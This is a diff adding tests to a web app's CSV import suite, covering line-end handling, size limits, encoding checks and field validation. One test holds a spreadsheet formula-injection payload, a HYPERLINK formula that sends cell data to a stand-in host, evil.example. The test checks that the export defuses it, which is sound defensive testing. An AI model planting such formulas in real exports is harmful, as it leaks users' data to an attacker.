@@ -142,6 +142,62 @@ describe('CSV import', () => {
     expect(await items()).toEqual([]);
   });
 
+  it('defuses formulas in the header line of the problems CSV too', async () => {
+    const csv = '"=HYPERLINK(""http://evil.example/?""&C2,""Click"")",@cmd,+x,-y\n,a,b,c\n';
+    const res = await postMultipart(admin, '/t/studio/items/import/problems.csv', { csv, map_title: '0', on_duplicate: 'skip' });
+    expect(res.status).toBe(200);
+    expect(res.text.split('\n')[0]).toBe(`line,problems,"'=HYPERLINK(""http://evil.example/?""&C2,""Click"")",'@cmd,'+x,'-y`);
+  });
+
+  describe('a file as the browser carries it from step to step', () => {
+    // A browser sends a text box back with CRLF line ends, and drops a line end right after its start tag.
+    const asBrowserSends = (page: string) => {
+      const box = /<textarea name="csv" hidden aria-hidden="true">([\s\S]*?)<\/textarea>/.exec(page)?.[1] ?? '';
+      const text = box
+        .replace(/^\r?\n/, '')
+        .replace(/&#34;/g, '"')
+        .replace(/&amp;/g, '&')
+        .replace(/&lt;/g, '<')
+        .replace(/&gt;/g, '>')
+        .replace(/&#39;/g, "'");
+      return text.replace(/\r?\n/g, '\r\n');
+    };
+
+    it('stays within the size limit at every step when its LF line ends come back as CRLF', async () => {
+      // 5,000 rows of 199 or 200 bytes with their line ends: exactly 1,000,000 bytes with LF.
+      const rows = Array.from({ length: 5000 }, (_, i) => `Item ${String(i).padStart(4, '0')},${'x'.repeat(i < 4990 ? 189 : 188)}`);
+      const csv = `Title,Body\n${rows.join('\n')}`;
+      expect(Buffer.byteLength(csv)).toBe(1_000_000);
+      const first = await postMultipart(admin, '/t/studio/items/import', { csv });
+      expect(first.status).toBe(200);
+      const carried = asBrowserSends(first.text);
+      expect(Buffer.byteLength(carried)).toBe(1_000_000 + 5000);
+      const preview = await postMultipart(admin, '/t/studio/items/import/preview', { csv: carried, map_title: '0', map_body: '1', on_duplicate: 'skip' });
+      expect(preview.status).toBe(200);
+      expect(preview.text).toContain('5000 to create');
+    });
+
+    it('keeps the line numbers of a file that starts with an empty line', async () => {
+      const csv = '\nTitle,Body\n,no title\n';
+      const choices = { map_title: '0', map_body: '1', on_duplicate: 'skip' };
+      const first = await postMultipart(admin, '/t/studio/items/import/preview', { csv, ...choices });
+      const again = await postMultipart(admin, '/t/studio/items/import/preview', { csv: asBrowserSends(first.text), ...choices });
+      expect(first.text).toContain('<li>line 3: title is required</li>');
+      expect(again.text).toContain('<li>line 3: title is required</li>');
+    });
+  });
+
+  it('reads a file whose lines end in CR alone with the delimiter of its header line', async () => {
+    const res = await postMultipart(admin, '/t/studio/items/import/preview', {
+      csv: 'Title,Body\rFirst;second;third,a\rMore;semi;colons;here,b\r',
+      map_title: '0',
+      map_body: '1',
+      on_duplicate: 'skip',
+    });
+    expect(res.status).toBe(200);
+    expect(res.text).toContain('2 to create');
+  });
+
   describe('with an author column', () => {
     it('makes a named member the author, so the importer may approve the item, and notes who imported it', async () => {
       const author = await makeUser(t.platform, { email: 'writer@example.com', name: 'Wanda Writer' });
@@ -255,6 +311,28 @@ describe('CSV import', () => {
       expect(res.status).toBe(400);
       expect(res.text).toMatch(field === 'on_duplicate' ? /field-error">Duplicates/ : new RegExp(`id="${field}-error"`));
       expect(await items()).toEqual([]);
+    });
+
+    it('refuses NUL characters in pasted text as in a file, naming the csv field', async () => {
+      const res = await commit(`${HEADER}\nNul\u0000title,b\u0000ody,blog,,\n`);
+      expect(res.status).toBe(400);
+      expect(res.text).toContain('id="csv-error"');
+      expect(await items()).toEqual([]);
+    });
+
+    it('refuses a file that is not UTF-8 (a Latin-1 export) instead of storing mangled text', async () => {
+      const latin1 = Buffer.from('Title\nCaf\u00e9 cr\u00e8me\n', 'latin1');
+      const res = await postMultipart(admin, '/t/studio/items/import', {}, { field: 'file', name: 'x.csv', content: latin1 });
+      expect(res.status).toBe(400);
+      expect(res.text).toContain('id="file-error"');
+      expect(res.text).toContain('UTF-8');
+    });
+
+    it('shows why a crafted on_invalid value was refused', async () => {
+      const res = await postMultipart(admin, '/t/studio/items/import/preview', { csv: 'Title\nA\n', map_title: '0', on_invalid: 'bogus' });
+      expect(res.status).toBe(400);
+      expect(res.text).toContain('id="on_invalid-error"');
+      expect(res.text).toContain('must be reject or skip');
     });
 
     it('refuses a file that is not text', async () => {
